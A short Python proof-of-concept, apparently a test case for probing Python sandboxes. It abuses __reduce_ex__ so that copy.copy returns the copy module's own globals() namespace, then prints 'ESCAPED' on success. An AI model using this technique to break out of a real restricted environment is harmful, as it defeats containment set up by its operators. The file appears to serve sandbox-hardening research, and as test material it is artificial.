# technique: globals(), called by trusted code, is the namespace of the trusted module
# goal: globals
# source: own analysis: the default namespace of globals
import copy


class Carrier:
    def __reduce_ex__(self, version):
        return globals, ()


g = copy.copy(Carrier())
if g['__name__'] == 'copy':
    print('ESCAPED globals of copy')
